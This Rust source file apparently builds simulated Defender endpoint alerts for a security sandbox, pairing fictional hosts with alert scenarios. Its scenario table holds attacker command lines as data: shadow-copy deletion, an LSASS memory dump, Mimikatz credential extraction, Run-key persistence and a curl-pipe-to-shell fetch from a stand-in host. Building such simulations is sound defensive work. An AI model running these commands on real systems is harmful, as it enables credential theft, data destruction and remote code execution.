//! Devices and what endpoint alerts find on them. Each host is one machine with one platform (the same device id,
//! platform and build in every alert), and an alert's process, file and registry value are ones its platform has:
//! Windows tools and `C:\` paths only on Windows, `/` paths and their own binaries on macOS and Linux, and a
//! process's file name is the program its command line runs.

use serde_json::{json, Value};

use super::catalog::{AlertTemplate, HOSTS};
use super::defender::entity;
use crate::clock::iso;
use crate::rng::Rng;

/// The operating-system family of a machine.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Family {
    Windows,
    Mac,
    Linux,
}

/// One machine of the sandbox's tenant: `osPlatform`, `version`, `osBuild` and RBAC group of a host.
struct Machine {
    host: &'static str,
    os: Family,
    platform: &'static str,
    version: &'static str,
    build: Option<u32>,
    group: &'static str,
}

const fn windows(host: &'static str, platform: &'static str, version: &'static str, build: u32) -> Machine {
    let group = if platform.len() > "Windows11".len() { "Servers" } else { "Workstations" };
    Machine { host, os: Family::Windows, platform, version, build: Some(build), group }
}

/// One machine per host of `HOSTS`, in the same order.
const MACHINES: [Machine; 10] = [
    windows("ws-fin-0042", "Windows11", "23H2", 22631),
    windows("ws-hr-0107", "Windows10", "22H2", 19045),
    windows("ws-dev-0311", "Windows11", "23H2", 22631),
    windows("srv-sql-01", "WindowsServer2019", "1809", 17763),
    windows("srv-dc-02", "WindowsServer2019", "1809", 17763),
    windows("laptop-ada", "Windows11", "23H2", 22631),
    windows("ws-sales-0219", "Windows10", "22H2", 19045),
    windows("srv-web-03", "WindowsServer2019", "1809", 17763),
    Machine {
        host: "mac-design-07",
        os: Family::Mac,
        platform: "macOS",
        version: "14.4",
        build: None,
        group: "Workstations",
    },
    Machine {
        host: "lnx-build-05",
        os: Family::Linux,
        platform: "Linux",
        version: "Ubuntu 22.04",
        build: None,
        group: "Servers",
    },
];

fn machine(host: &str) -> &'static Machine {
    MACHINES.iter().find(|m| m.host == host).unwrap_or(&MACHINES[0])
}

/// A host an alert made from `tmpl` can happen on: Windows-only detections (and identity alerts, whose devices
/// are domain members) pick a Windows machine.
pub(crate) fn pick_host(r: &mut Rng, tmpl: &AlertTemplate) -> &'static str {
    let fits: Vec<&'static str> =
        HOSTS.iter().copied().filter(|h| !tmpl.windows_only || machine(h).os == Family::Windows).collect();
    let i = r.below(fits.len() as u64) as usize;
    fits.get(i).copied().unwrap_or(HOSTS[0])
}

/// The Defender `devices` item of `host`, the same in every alert of an incident created at `created`: what
/// describes the machine comes from its name, not from the incident's random stream.
pub(crate) fn device_json(host: &str, created: i64) -> Value {
    let m = machine(host);
    let mut r = Rng::new(host.bytes().fold(0x00DE_71CE, |a, b| a.wrapping_mul(131).wrapping_add(b as u64)));
    json!({
        "mdatpDeviceId": r.hex(40),
        "aadDeviceId": if r.chance(0.7) { json!(r.guid()) } else { Value::Null },
        "deviceDnsName": format!("{host}.corp.sandbox.onbehalf.test"),
        "osPlatform": m.platform,
        "version": m.version,
        "osProcessor": "x64",
        "osBuild": m.build,
        "healthStatus": *r.pick(&["Active", "Active", "Inactive", "ImpairedCommunication", "NoSensorData"]),
        "riskScore": *r.pick(&["None", "Low", "Medium", "High"]),
        "rbacGroupName": m.group,
        "rbacGroupId": if m.group == "Servers" { 2 } else { 1 },
        "firstSeen": iso(created - r.range(30, 900) * 86_400_000),
        "tags": [],
        "defenderAvStatus": *r.pick(&["Updated", "Updated", "NotUpdated"]),
        "onboardingStatus": "Onboarded",
        "loggedOnUsers": [],
    })
}

/// What an endpoint alert saw on one platform: the process (file name, folder, command line), the file it wrote
/// or ran (name, folder) and whether it set a Run key to that file. `{person}` is the alert's user.
struct Scenario {
    title: &'static str,
    os: Family,
    process: (&'static str, &'static str, &'static str),
    file: (&'static str, &'static str),
    run_key: bool,
}

const SCENARIOS: [Scenario; 10] = [
    Scenario {
        title: "Suspicious PowerShell command line",
        os: Family::Windows,
        process: (
            "powershell.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        ),
        file: ("update.ps1", "C:\\Users\\{person}\\Downloads"),
        run_key: false,
    },
    Scenario {
        title: "Ransomware behavior detected in the file system",
        os: Family::Windows,
        process: ("cmd.exe", "C:\\Windows\\System32", "cmd.exe /c vssadmin delete shadows /all /quiet"),
        file: ("invoice_2024.exe", "C:\\Users\\{person}\\Downloads"),
        run_key: false,
    },
    Scenario {
        title: "Ransomware behavior detected in the file system",
        os: Family::Mac,
        process: ("python3", "/usr/bin", "/usr/bin/python3 /Users/{person}/Downloads/invoice_2024.py --encrypt ~/Documents"),
        file: ("invoice_2024.py", "/Users/{person}/Downloads"),
        run_key: false,
    },
    Scenario {
        title: "Ransomware behavior detected in the file system",
        os: Family::Linux,
        process: (
            "openssl",
            "/usr/bin",
            "/usr/bin/openssl enc -aes-256-cbc -salt -in /srv/build/artifacts.tar -out /srv/build/artifacts.tar.lockbit -pass env:K",
        ),
        file: ("artifacts.tar.lockbit", "/srv/build"),
        run_key: false,
    },
    Scenario {
        title: "Possible credential dumping from LSASS memory",
        os: Family::Windows,
        process: (
            "rundll32.exe",
            "C:\\Windows\\System32",
            "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
        ),
        file: ("lsass.dmp", "C:\\Temp"),
        run_key: false,
    },
    Scenario {
        title: "Anomaly detected in ASEP registry",
        os: Family::Windows,
        process: (
            "reg.exe",
            "C:\\Windows\\System32",
            "reg.exe add HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d C:\\Users\\{person}\\AppData\\Roaming\\svch0st.exe",
        ),
        file: ("svch0st.exe", "C:\\Users\\{person}\\AppData\\Roaming"),
        run_key: true,
    },
    Scenario {
        title: "'Mimikatz' hacktool was detected",
        os: Family::Windows,
        process: (
            "mimikatz.exe",
            "C:\\Users\\{person}\\Downloads",
            "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
        ),
        file: ("mimikatz.exe", "C:\\Users\\{person}\\Downloads"),
        run_key: false,
    },
    Scenario {
        title: "Connection to a custom network indicator",
        os: Family::Windows,
        process: ("rundll32.exe", "C:\\Windows\\System32", "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer"),
        file: ("payload.dll", "C:\\Users\\Public"),
        run_key: false,
    },
    Scenario {
        title: "Connection to a custom network indicator",
        os: Family::Mac,
        process: (
            "osascript",
            "/usr/bin",
            "/usr/bin/osascript -e 'do shell script \"curl -fsSL https://cdn-update.example/agent.sh | sh\"'",
        ),
        file: ("com.apple.updater.plist", "/Users/{person}/Library/LaunchAgents"),
        run_key: false,
    },
    Scenario {
        title: "Connection to a custom network indicator",
        os: Family::Linux,
        process: ("bash", "/usr/bin", "/usr/bin/bash -c \"curl -fsSL https://cdn-update.example/agent.sh | sh\""),
        file: ("kworkerd", "/tmp/.cache"),
        run_key: false,
    },
];

/// The Process, File (and Run-key Registry) entities of an endpoint alert `tmpl` on `host`, for `person`.
pub(crate) fn evidence(
    r: &mut Rng,
    tmpl: &AlertTemplate,
    host: &str,
    person: &str,
    t: i64,
    device: &Value,
) -> Vec<Value> {
    let os = machine(host).os;
    let sc = SCENARIOS
        .iter()
        .find(|s| s.title == tmpl.title && s.os == os)
        .or_else(|| SCENARIOS.iter().find(|s| s.os == os))
        .unwrap_or(&SCENARIOS[0]);
    let fill = |s: &str| s.replace("{person}", person);
    let (process, process_folder, command) = sc.process;
    let (file, file_folder) = (sc.file.0, fill(sc.file.1));
    let pid = r.range(1000, 30000);
    let mut out = vec![
        entity(&[
            ("entityType", json!("Process")),
            ("processId", json!(pid)),
            ("processCommandLine", json!(fill(command))),
            ("processCreationTime", json!(iso(t - 200_000))),
            ("parentProcessId", json!(pid - r.range(1, 900))),
            ("parentProcessCreationTime", json!(iso(t - 900_000))),
            ("fileName", json!(process)),
            ("filePath", json!(fill(process_folder))),
            ("sha1", json!(r.hex(40))),
            ("sha256", json!(r.hex(64))),
            ("deviceId", device.clone()),
        ]),
        entity(&[
            ("entityType", json!("File")),
            ("fileName", json!(file)),
            ("filePath", json!(file_folder)),
            ("sha1", json!(r.hex(40))),
            ("sha256", json!(r.hex(64))),
            ("deviceId", device.clone()),
        ]),
    ];
    if sc.run_key {
        out.push(entity(&[
            ("entityType", json!("Registry")),
            ("registryHive", json!("HKEY_CURRENT_USER")),
            ("registryKey", json!("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")),
            ("registryValueType", json!("String")),
            ("registryValue", json!(format!("{file_folder}\\{file}"))),
            ("deviceId", device.clone()),
        ]));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::catalog::{Kind, ALERTS};
    use super::*;

    #[test]
    fn one_machine_per_host_and_a_scenario_per_endpoint_alert_and_platform() {
        assert_eq!(MACHINES.map(|m| m.host), HOSTS);
        for tmpl in ALERTS.iter().filter(|t| t.kind == Kind::Endpoint) {
            for m in MACHINES.iter().filter(|m| !tmpl.windows_only || m.os == Family::Windows) {
                assert!(
                    SCENARIOS.iter().any(|s| s.title == tmpl.title && s.os == m.os),
                    "{} on {}",
                    tmpl.title,
                    m.host
                );
            }
        }
        for s in &SCENARIOS {
            assert!(ALERTS.iter().any(|t| t.title == s.title), "{}", s.title);
        }
    }

    #[test]
    fn a_device_is_the_same_in_every_alert() {
        assert_eq!(device_json("mac-design-07", 5), device_json("mac-design-07", 5));
        assert_ne!(device_json("mac-design-07", 5)["mdatpDeviceId"], device_json("lnx-build-05", 5)["mdatpDeviceId"]);
    }
}
